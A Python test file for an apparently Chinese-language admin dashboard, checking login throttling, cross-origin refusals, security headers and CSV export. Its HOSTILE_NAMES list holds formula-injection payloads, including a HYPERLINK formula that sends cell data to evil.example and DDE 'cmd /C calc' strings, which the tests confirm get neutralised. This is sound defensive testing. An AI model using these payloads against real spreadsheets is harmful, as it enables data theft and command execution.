"""The dashboard without a browser: sign-in and its throttling, who sees what, every figure against the rows,
the headers of every answer, refusals, hostile CSV cells and the password command (both databases)."""
from __future__ import annotations

import csv
import io
import os
import pty
import re
import select as selecting
import sys
import threading
from dataclasses import replace
from datetime import date, datetime, timedelta, timezone

import pytest
from sqlalchemy import func, select

from bot.admin import COOKIE, last_months_start, month_start
from bot.admin.panels import PANELS, Request
from bot.app import create_app
from bot.settings import Settings
from rules import ConfigError
from storage.logins import check_login
from storage.models import AdminSession, LedgerEntry, LoginFailure, Member, Staff, Ticket
from storage.reports import Scope, month_spans, quarter_spans
from tests.conftest import ROOT
from tests.dashboard_seed import FIRST, NOW, PASSWORD, TODAY, expected, local, seed, with_past_events
from tests.factories import make_member

ATTACKER = {"REMOTE_ADDR": "203.0.113.7"}
OWNER = {"REMOTE_ADDR": "198.51.100.20"}


@pytest.fixture
def database_url(db_url) -> str:
    return db_url


@pytest.fixture
def rules(base_rules):
    return with_past_events(base_rules)


@pytest.fixture
def seeded(app, state, clock):
    clock.now = NOW.timestamp()
    with state.db.write() as session:
        seed(session, state.rules)
    return app


def login(client, staff_id="S1", password=PASSWORD, environ=None, **headers):
    return client.post("/admin/login", data={"staff_id": staff_id, "password": password}, headers=headers,
                       environ_base=environ or {})


def said(response) -> str:
    """The text of the sign-in page's error, or of a refusal page."""
    found = re.search(r'id="(?:error|refused)">([^<]*)<', response.data.decode())
    return found.group(1) if found else ""


def test_default_range_is_the_last_twelve_months_in_the_rules_zone():
    assert last_months_start(TODAY, 12) == FIRST
    assert last_months_start(TODAY.replace(month=1, day=5), 1).isoformat() == "2026-01-01"
    assert last_months_start(TODAY.replace(month=1, day=5), 13).isoformat() == "2025-01-01"


def test_months_and_quarters_are_local_and_clipped(rules):
    months = month_spans(rules, FIRST, TODAY)
    assert [m.label for m in months][:2] == ["2025-12", "2026-01"] and len(months) == 12
    assert months[0].start.isoformat() == "2025-11-30T16:00:00+00:00"  # midnight in Asia/Shanghai
    assert months[-1].last == TODAY and months[-1].end.isoformat() == "2026-11-23T16:00:00+00:00"
    assert [q.label for q in quarter_spans(rules, FIRST, TODAY)] == ["2025-Q4", "2026-Q1", "2026-Q2", "2026-Q3",
                                                                     "2026-Q4"]


@pytest.mark.parametrize("manager", [None, "M1"])
def test_every_panel_table_equals_the_rows_worked_out_one_by_one(seeded, state, manager):
    """On SQLite and PostgreSQL: the set-based SQL gives what a member-by-member count of the rows gives."""
    with state.db.read() as session:
        want = expected(session, state.rules, manager=manager)
        for name, panel in PANELS.items():
            view = panel(Request(session, state.rules, FIRST, TODAY, TODAY, Scope(manager), NOW))
            got = {t.key: t.rows for t in view.tables}
            assert got == dict(want.get(name, {})), name
            assert view.charts and all("<svg" in str(chart) for chart in view.charts)
    figures = want["members"]["by_tier"]
    assert sum(row[1] for row in figures) == (60 if manager is None else 12)
    assert any(row[2] for row in want["loyalty"]["by_quarter"]) and any(row[4] for row in want["pushes"]["by_job"])
    gifts = want["gifts"]
    assert manager or gifts["open"] and any(row[3] for row in gifts["open"]) and any(row[4] for row in gifts["open"])
    assert {row[4] for row in gifts["by_month"]} - {0} and any(row[5] for row in gifts["by_month"])  # open, cancelled
    assert gifts["stock"][-1][0] == "oldpen 旧款钢笔（已下架）"
    tickets = want["complaints"]
    assert sum(row[1] for row in tickets["by_month"]) and sum(row[8] for row in tickets["by_month"])
    assert manager or {row[3] for row in tickets["by_month"]} - {"—", "0.0%", "100.0%"}  # some within, some late
    assert manager or tickets["repeated"] and sum(row[1] for row in tickets["ratings"])
    sessions = want["events"]["by_session"]
    assert [row[0].split()[0] for row in sessions] == ["summer-dinner", "autumn-salon", "autumn-salon",
                                                       "spring-fashion", "spring-fashion", "jade"]
    assert manager or any(row[7] for row in sessions) and any(isinstance(row[10], int) and row[10] for row in sessions)
    assert manager or any(row[5] for row in want["loyalty"]["by_quarter"])  # event participation


def test_staff_password_is_read_from_standard_input_and_never_from_an_option(seeded, state):
    runner = seeded.test_cli_runner()
    result = runner.invoke(args=["staff", "password", "M1"], input="another secret\n")
    assert result.exit_code == 0, result.output
    assert "another secret" not in result.output
    with state.db.read() as session:
        stored = session.get(Staff, "M1").password_hash
    assert stored and "another secret" not in stored and stored.startswith(("scrypt:", "pbkdf2:"))
    assert login(seeded.test_client(), "M1", "another secret").status_code == 302
    flag = runner.invoke(args=["staff", "password", "M1", "--password", "in shell history"])
    assert flag.exit_code == 2 and "No such option '--password'" in flag.output
    refused = runner.invoke(args=["staff", "password", "V1"], input="long enough\n")
    assert refused.exit_code == 1 and "role service" in refused.output
    short = runner.invoke(args=["staff", "password", "M1"], input="short\n")
    assert short.exit_code == 1 and "at least 8" in short.output
    empty = runner.invoke(args=["staff", "password", "M1"], input="")
    assert empty.exit_code == 1 and "no password on standard input" in empty.output
    assert login(seeded.test_client(), "M1", "another secret").status_code == 302  # unchanged by the refusals


def _terminal(args: list[str], env: dict[str, str], prompts: tuple[bytes, ...], answers: list[str]) -> tuple[int, str]:
    """Run ``flask --app wsgi …`` on a pseudo-terminal, typing the next answer at each of ``prompts``; (exit code, screen)."""
    pid, fd = pty.fork()
    if pid == 0:  # the child: the terminal is its controlling terminal, as in a shell
        os.chdir(ROOT)
        os.execve(sys.executable, [sys.executable, "-m", "flask", "--app", "wsgi", *args], env)
    screen, answers, answered = b"", list(answers), 0
    while True:
        ready, _, _ = selecting.select([fd], [], [], 60)
        assert ready, f"the command stopped answering: {screen!r}"
        try:
            chunk = os.read(fd, 4096)
        except OSError:  # the child has closed the terminal
            break
        if not chunk:
            break
        screen += chunk
        asked = sum(screen.count(prompt) for prompt in prompts)
        if answers and asked > answered and screen.endswith(b": "):
            os.write(fd, answers.pop(0).encode() + b"\n")
            answered += 1
    _, status = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(status), screen.decode(errors="replace")


def test_staff_password_on_a_terminal_is_asked_twice_and_not_shown(seeded, state, redis_url):
    env = {key: value for key, value in os.environ.items() if key not in ("DATABASE_URL", "REDIS_URL", "RULES_PATH")}
    env.update(DATABASE_URL=state.settings.database_url, REDIS_URL=redis_url, WECHAT_TOKEN="t", WECHAT_APPID="wx-a",
               WECHAT_SECRET="s")
    code, screen = _terminal(["staff", "password", "M1"], env, (b"New dashboard password: ", b"Repeat for confirmation: "),
                             ["typed on a tty", "mistyped again", "typed on a tty", "typed on a tty"])
    assert code == 0, screen
    assert screen.count("New dashboard password:") == 2 and screen.count("Repeat for confirmation:") == 2
    assert "do not match" in screen and "password of staff M1 set" in screen
    assert "typed on a tty" not in screen and "mistyped" not in screen  # hidden
    assert login(seeded.test_client(), "M1", "typed on a tty").status_code == 302


def test_sign_in_sets_a_guarded_cookie_and_sign_out_ends_the_session(seeded, state):
    client = seeded.test_client()
    response = login(client)
    assert response.status_code == 302 and response.headers["Location"] == "/admin/"
    cookie = response.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie and "Path=/admin" in cookie and "Secure" not in cookie
    token = re.search(f"{COOKIE}=([^;]+)", cookie).group(1)
    with state.db.read() as session:
        stored = session.scalars(select(AdminSession.token_hash)).all()
    assert stored and token not in stored  # only its hash is kept
    assert client.get("/admin/points").status_code == 200
    assert client.post("/admin/logout").status_code == 302
    assert client.get("/admin/points").status_code == 302
    client.set_cookie(COOKIE, token, path="/admin")  # the old token no longer opens anything
    assert client.get("/admin/points").headers["Location"].startswith("/admin/login")
    behind_https = login(seeded.test_client(), **{"X-Forwarded-Proto": "https"})
    assert "Secure" in behind_https.headers["Set-Cookie"]


def test_wrong_passwords_slow_one_address_down_and_never_lock_the_owner_out(seeded, state, clock):
    attacker, owner = seeded.test_client(), seeded.test_client()
    for _ in range(4):
        answer = login(attacker, password="wrong password", environ=ATTACKER)
        assert answer.status_code == 401 and said(answer) == "员工编号或密码不正确。"
    waits = []
    for _ in range(7):  # the fifth wrong one and each after it, once its wait is over
        answer = login(attacker, password="wrong password", environ=ATTACKER)
        assert answer.status_code == 401 and said(answer).startswith("员工编号或密码不正确。输错次数较多，请 ")
        waits.append(said(answer).split("请 ")[1].removesuffix("后再试。"))
        during = login(attacker, environ=ATTACKER)  # the right password, from the attacker's address
        assert during.status_code == 429 and said(during) == f"输错次数较多，请 {waits[-1]}后再试。"
        assert "Set-Cookie" not in during.headers and int(during.headers["Retry-After"]) > 0
        assert login(owner, environ=OWNER).status_code == 302  # the owner, elsewhere, signs in at once
        with state.db.read() as session:
            seconds = (session.get(LoginFailure, ("S1", ATTACKER["REMOTE_ADDR"])).wait_until
                       - datetime.fromtimestamp(clock.now, timezone.utc)).total_seconds()
        clock.now += seconds - 1
        assert login(attacker, environ=ATTACKER).status_code == 429  # hammering does not help ...
        clock.now += 1  # ... nor does it make the wait longer
    assert waits == ["30 秒", "1 分钟", "2 分钟", "4 分钟", "8 分钟", "15 分钟", "15 分钟"]
    assert login(attacker, environ=ATTACKER).status_code == 302  # after the wait the right password works ...
    assert said(login(attacker, password="wrong password", environ=ATTACKER)) == "员工编号或密码不正确。"  # ... anew


def test_a_day_without_a_wrong_password_starts_the_count_again(seeded, clock):
    client = seeded.test_client()
    for _ in range(5):
        answer = login(client, password="wrong password", environ=ATTACKER)
    assert "30 秒" in said(answer)
    clock.now += 24 * 3600 + 1
    for _ in range(4):
        assert said(login(client, password="wrong password", environ=ATTACKER)) == "员工编号或密码不正确。"
    assert "30 秒" in said(login(client, password="wrong password", environ=ATTACKER))


def test_a_new_password_lifts_every_wait_on_the_id(seeded, state):
    client = seeded.test_client()
    for _ in range(6):
        login(client, password="wrong password", environ=ATTACKER)
    assert login(client, environ=ATTACKER).status_code == 429
    result = seeded.test_cli_runner().invoke(args=["staff", "password", "S1"], input="a new secret\n")
    assert result.exit_code == 0, result.output
    assert login(client, password="a new secret", environ=ATTACKER).status_code == 302


def _same_page(response) -> tuple:
    """What a browser gets, the per-response nonce aside."""
    body = re.sub(rb"nonce-[\w-]+|nonce=\"[\w-]+\"", b"nonce", response.data)
    headers = tuple(sorted((k, re.sub(r"nonce-[\w-]+", "nonce", v)) for k, v in response.headers.items()))
    return response.status_code, headers, body


def test_a_wrong_password_answers_alike_for_unknown_ids_cards_service_staff_and_real_ids(seeded, state):
    with state.db.read() as session:
        card_no = session.scalar(select(Member.card_no).order_by(Member.id))
    client = seeded.test_client()
    for attempt in range(7):
        answers = {staff_id: _same_page(login(client, staff_id, "wrong password", environ=ATTACKER))
                   for staff_id in ("nobody", card_no, "V1", "S1")}
        assert len(set(answers.values())) == 1, (attempt, answers)
        assert next(iter(answers.values()))[0] == (401 if attempt < 5 else 429)
    assert "再错".encode() not in answers["S1"][2]


def test_parallel_guesses_from_one_address_are_all_counted(seeded, state):
    """On SQLite and PostgreSQL: twelve guesses at once, five free failures: only five passwords are looked at."""
    rules, barrier, outcomes = state.rules.dashboard, threading.Barrier(12), []

    def guess() -> None:
        barrier.wait()
        with state.db.write() as session:
            outcomes.append(check_login(session, "S1", "wrong password", "203.0.113.7", NOW, rules))

    threads = [threading.Thread(target=guess) for _ in range(12)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(o.waiting for o in outcomes) == [False] * 5 + [True] * 7
    with state.db.read() as session:
        assert session.get(LoginFailure, ("S1", "203.0.113.7")).failures == 5


def test_forwarded_addresses_count_only_behind_trusted_proxies(seeded, settings, rules, redis_client, clock):
    spoofing = seeded.test_client()  # no proxy configured: X-Forwarded-For is the browser's own say
    for n in range(5):
        last = login(spoofing, password="wrong password", environ=ATTACKER, **{"X-Forwarded-For": f"10.0.0.{n}"})
    assert last.status_code == 401 and "请 " in said(last)
    assert login(spoofing, environ=ATTACKER, **{"X-Forwarded-For": "10.0.0.99"}).status_code == 429
    behind = create_app(replace(settings, trusted_proxies=1), rules, redis_client=redis_client, clock=clock)
    try:
        client = behind.test_client()  # the proxy's address is ATTACKER's; the entry it appended names the browser
        assert login(client, environ=ATTACKER, **{"X-Forwarded-For": "1.2.3.4, 198.51.100.20"}).status_code == 302
        assert login(client, environ=ATTACKER, **{"X-Forwarded-For": "198.51.100.20, 203.0.113.7"}).status_code == 429
    finally:
        behind.extensions["bot"].executor.shutdown(wait=True)
        behind.extensions["bot"].db.dispose()
    with pytest.raises(ConfigError, match="TRUSTED_PROXIES"):
        Settings.from_env({"TRUSTED_PROXIES": "one"})
    assert Settings.from_env({"TRUSTED_PROXIES": "2"}).trusted_proxies == 2


def test_a_head_request_is_never_a_sign_in_attempt(seeded, state):
    client = seeded.test_client()
    for password in [PASSWORD] * 3 + ["wrong password"] * 10:
        answer = client.head("/admin/login", data={"staff_id": "S1", "password": password}, environ_base=ATTACKER)
        assert answer.status_code == 200 and "Set-Cookie" not in answer.headers
    with state.db.read() as session:
        assert session.scalar(select(func.count()).select_from(LoginFailure)) == 0
    for _ in range(4):  # all five free failures are left
        assert said(login(client, password="wrong password", environ=ATTACKER)) == "员工编号或密码不正确。"
    assert login(client, environ=ATTACKER).status_code == 302


def test_unknown_ids_and_staff_without_a_dashboard_cannot_sign_in(seeded, state):
    with state.db.write() as session:
        rules = state.rules.dashboard
        assert check_login(session, "nobody", PASSWORD, "127.0.0.1", NOW, rules).staff is None
        assert check_login(session, "V1", PASSWORD, "127.0.0.1", NOW, rules).staff is None
        assert check_login(session, "M1", PASSWORD, "127.0.0.1", NOW, rules).staff.id == "M1"
    typed = login(seeded.test_client(), "\x00S1\x1f", "wrong password")  # PostgreSQL refuses NUL: not a 500
    assert typed.status_code == 401 and said(typed) == "员工编号或密码不正确。"


def _admin_urls(app) -> list[str]:
    urls = []
    for rule in app.url_map.iter_rules():
        if not rule.rule.startswith("/admin") or rule.endpoint == "admin.login":
            continue
        urls.append(rule.rule.replace("<name>", "points").replace("<table>", "by_month")
                    .replace("<path:filename>", "x.css"))
    return urls


def test_every_admin_url_redirects_to_the_sign_in_page_without_a_session(seeded):
    client = seeded.test_client()
    urls = _admin_urls(seeded) + [f"/admin/{name}" for name in PANELS] + ["/admin", "/admin/nothing-here"]
    assert "/admin/logout" in urls and "/admin/<name>/<table>.csv".replace("<name>", "points").replace(
        "<table>", "by_month") in urls
    for url in urls:
        response = client.post(url) if url == "/admin/logout" else client.get(url)
        assert response.status_code in (302, 308), url
        if response.status_code == 302:
            assert response.headers["Location"].startswith("/admin/login?next="), url
    client.set_cookie(COOKIE, "forged-token", path="/admin")
    assert client.get("/admin/members").headers["Location"].startswith("/admin/login")


def test_a_manager_sees_only_their_own_key_accounts(seeded, state):
    client = seeded.test_client()
    login(client, "M1")
    own = client.get("/admin/members")
    assert own.status_code == 200 and "仅显示客户经理 M1 的大客户".encode() in own.data
    for url in ("/admin/members?manager=M2", "/admin/points/by_month.csv?manager=M2", "/admin/pushes?manager=S1"):
        assert client.get(url).status_code == 403, url
    csv_text = client.get("/admin/members/by_tier.csv").data.decode("utf-8-sig")
    total = csv_text.strip().splitlines()[-1].split(",")
    assert total[0] == "合计" and int(total[1]) == 12  # M1 manages 12 of the 60 members
    supervisor = seeded.test_client()
    login(supervisor, "S1")
    everyone = supervisor.get("/admin/members/by_tier.csv").data.decode("utf-8-sig").strip().splitlines()[-1]
    assert everyone.split(",")[1] == "60"
    assert supervisor.get("/admin/members/by_tier.csv?manager=M2").data.decode("utf-8-sig").strip() \
        .splitlines()[-1].split(",")[1] == "12"


def test_csv_download_and_bad_requests(seeded):
    client = seeded.test_client()
    login(client)
    response = client.get("/admin/points/by_month.csv?from=2026-01-01&to=2026-03-31")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert 'filename="points-by_month-2026-01-01-2026-03-31.csv"' in response.headers["Content-Disposition"]
    lines = response.data.decode("utf-8-sig").splitlines()
    assert lines[0] == "月份,获得,兑换,过期,退货扣回,调整,兑换退回" and [l.split(",")[0] for l in lines[1:]] == [
        "2026-01", "2026-02", "2026-03", "合计"]
    assert client.get("/admin/points/nothing.csv").status_code == 404
    assert client.get("/admin/points?from=2026-13-01").status_code == 400
    assert client.get("/admin/points?from=2026-05-01&to=2026-04-01").status_code == 400


def test_sign_in_refuses_other_sites_and_foreign_next_targets(seeded):
    client = seeded.test_client()
    assert login(client, Origin="https://evil.example").status_code == 403
    answer = client.post("/admin/login", data={"staff_id": "S1", "password": PASSWORD, "next": "//evil.example/x"})
    assert answer.headers["Location"] == "/admin/"
    assert client.post("/admin/logout", headers={"Origin": "https://evil.example"}).status_code == 403
    assert client.get("/admin/points").status_code == 200  # still signed in: the foreign logout was refused


def test_session_expires_after_session_hours(seeded, clock):
    client = seeded.test_client()
    login(client)
    clock.now += timedelta(hours=12, seconds=1).total_seconds()
    assert client.get("/admin/members").status_code == 302


# --------------------------------------------------------------------------- headers, refusals, hostile cells


def _policy(response) -> dict[str, str]:
    directives = (part.strip().split(None, 1) for part in response.headers["Content-Security-Policy"].split(";"))
    return {d[0]: d[1] if len(d) > 1 else "" for d in directives}


def test_every_admin_answer_forbids_script_framing_sniffing_and_caching(seeded):
    client, signed_in = seeded.test_client(), seeded.test_client()
    login(signed_in)
    answers = {
        "sign-in page": client.get("/admin/login"),
        "wrong password": login(client, password="wrong password"),
        "no session": client.get("/admin/points"),
        "head": client.head("/admin/login"),
        "unknown path": client.get("/admin/no/such/page"),
        "panel": signed_in.get("/admin/complaints"),
        "csv": signed_in.get("/admin/complaints/repeated.csv"),
        "bad range": signed_in.get("/admin/points?from=2026-13-01"),
        "unknown panel": signed_in.get("/admin/nothing-here"),
        "foreign form": signed_in.post("/admin/logout", headers={"Origin": "https://evil.example"}),
    }
    for what, answer in answers.items():
        policy = _policy(answer)
        assert policy["script-src"] == "'none'" and policy["default-src"] == "'self'", what
        assert policy["frame-ancestors"] == "'none'" and "unsafe-inline" not in answer.headers["Content-Security-Policy"]
        assert answer.headers["X-Content-Type-Options"] == "nosniff", what
        assert answer.headers["Referrer-Policy"] in ("no-referrer", "same-origin"), what
        assert "no-store" in answer.headers["Cache-Control"], what
    for page in ("sign-in page", "panel", "bad range"):
        html = answers[page].data.decode()
        nonce = re.search(r"'nonce-([\w-]+)'", answers[page].headers["Content-Security-Policy"]).group(1)
        styles = re.findall(r"<style([^>]*)>", html)
        assert styles and all(f'nonce="{nonce}"' in attributes for attributes in styles), page
        assert "<script" not in html and not re.search(r"\s(on\w+|style)=", html), page
    assert answers["panel"].data.decode().count("<svg") >= 4  # the charts are there, without their script
    assert seeded.test_client().get("/wechat").headers.get("Content-Security-Policy") is None  # /admin only


def test_a_managers_forbidden_page_says_why_in_chinese_and_links_back(seeded):
    client = seeded.test_client()
    login(client, "M1")
    for url in ("/admin/members?manager=M2", "/admin/points/by_month.csv?manager=M2&from=2026-01-01"):
        answer = client.get(url)
        assert answer.status_code == 403 and answer.mimetype == "text/html", url
        assert said(answer) == "您只能查看自己的大客户；客户经理 M2 的数据仅主管和管理员可以查看。"
        assert "无权访问" in answer.data.decode()
    back = re.search(r'<a href="([^"]+)" id="back">返回看板</a>', answer.data.decode()).group(1)
    assert back == "/admin/points" and client.get(back).status_code == 200
    foreign = client.post("/admin/logout", headers={"Origin": "https://evil.example"})
    assert foreign.status_code == 403 and said(foreign) == "该表单不是从本看板提交的，已拒绝。请回到看板重新操作。"
    stranger = seeded.test_client().post("/admin/login", data={"staff_id": "S1", "password": PASSWORD},
                                         headers={"Origin": "https://evil.example"})
    assert stranger.status_code == 403 and '<a href="/admin/login" id="back">返回登录页</a>' in stranger.data.decode()
    missing = client.get("/admin/points/nothing.csv")
    assert missing.status_code == 404 and said(missing) == "看板中没有这个页面或表格。"


def _edges(today: date) -> list[tuple[dict, str]]:
    """Ranges every panel refuses (query, what the page says), the calendar's edges included."""
    beyond = month_start(today, 14)  # past the last day of the twelfth month after today's
    return [
        ({"from": "0001-01-01", "to": "0001-01-01"}, "开始日期 0001-01-01 超出可查询的范围"),
        ({"from": "0001-01-01", "to": "0001-12-31"}, "开始日期 0001-01-01 超出可查询的范围"),
        ({"from": "9999-01-01", "to": "9999-12-31"}, "开始日期 9999-01-01 超出可查询的范围"),
        ({"from": "9999-12-31", "to": "9999-12-31"}, "开始日期 9999-12-31 超出可查询的范围"),
        ({"from": "0001-01-01"}, "开始日期 0001-01-01 超出"),
        ({"to": "9999-12-31"}, "结束日期 9999-12-31 超出"),
        ({"from": "1999-12-01", "to": "2000-01-31"}, "须在 2000-01-01 至 "),
        ({"from": f"{beyond:%Y-%m}-01", "to": f"{beyond:%Y-%m}-02"}, f"开始日期 {beyond:%Y-%m}-01 超出"),
        ({"from": "10000-01-01"}, "开始日期“10000-01-01”不是有效日期"),
        ({"to": "2026-02-30"}, "结束日期“2026-02-30”不是有效日期"),
        ({"from": "x" * 500}, "开始日期“" + "x" * 32 + "…”不是有效日期"),
        ({"from": "2026-05-01", "to": "2026-04-01"}, "结束日期 2026-04-01 早于开始日期 2026-05-01"),
        ({"from": "2000-01-01", "to": "2026-01-01"}, "所选时间段超过 60 个月"),
    ]


def test_ranges_beyond_the_calendars_edges_are_refused_on_every_panel(seeded, state):
    client = seeded.test_client()
    login(client)
    edges = _edges(state.today())
    for name in PANELS:
        page = client.get(f"/admin/{name}").data.decode()
        table = re.search(r'id="csv-(\w+)"', page).group(1)
        for query, says in edges:
            for url in (f"/admin/{name}", f"/admin/{name}/{table}.csv"):
                answer = client.get(url, query_string=query)
                assert answer.status_code == 400 and answer.mimetype == "text/html", (url, query, answer.status)
                assert says in said(answer) and "查询条件有误" in answer.data.decode(), (url, query, said(answer))
                assert f'<a href="/admin/{name}" id="back">返回看板</a>' in answer.data.decode()


def test_a_range_right_at_the_accepted_edges_is_shown(seeded, state):
    client = seeded.test_client()
    login(client)
    latest = month_start(state.today(), 13) - timedelta(days=1)
    for query in ({"from": "2000-01-01", "to": "2000-12-31"}, {"from": f"{latest:%Y-%m}-01", "to": f"{latest}"}):
        for name in PANELS:
            assert client.get(f"/admin/{name}", query_string=query).status_code == 200, (name, query)


HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "张三"]


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(seeded, state):
    opened = datetime.fromtimestamp(NOW.timestamp(), timezone.utc) - timedelta(days=3)
    with state.db.write() as session:
        for n, name in enumerate(HOSTILE_NAMES):
            member = make_member(session, name=name, card_no=f"=X{n}" if n == 0 else f"H{n:07d}", tier="A")
            for k in range(2):
                session.add(Ticket(number=f"H{n}-{k}", member_id=member.id, kind="complaint", category="其他",
                                   priority="high", status="open", description="seeded", opened_at=opened,
                                   repeated=True))
        session.add(LedgerEntry(member_id=member.id, kind="adjust", amount=-77777, remaining=0,
                                occurred_at=local(TODAY - timedelta(days=1))))
    client = seeded.test_client()
    login(client)
    rows = list(csv.reader(io.StringIO(client.get("/admin/complaints/repeated.csv").data.decode("utf-8-sig"))))
    names = {row[1] for row in rows[1:]}
    for name in HOSTILE_NAMES[:-1]:
        assert "'" + name in names and name not in names, name
    assert "张三" in names and "'=X0" in {row[0] for row in rows}
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    page = client.get("/admin/complaints").data.decode()
    assert "+cmd|&#39;/C calc&#39;!A0" in page and "&#39;+cmd" not in page  # the page shows the name as it is
    points = list(csv.reader(io.StringIO(client.get("/admin/points/by_month.csv").data.decode("utf-8-sig"))))
    adjusted = points[0].index("调整")
    month = next(row for row in points if row[0] == f"{TODAY:%Y-%m}")
    assert int(month[adjusted]) < -70000  # a negative figure stays a number
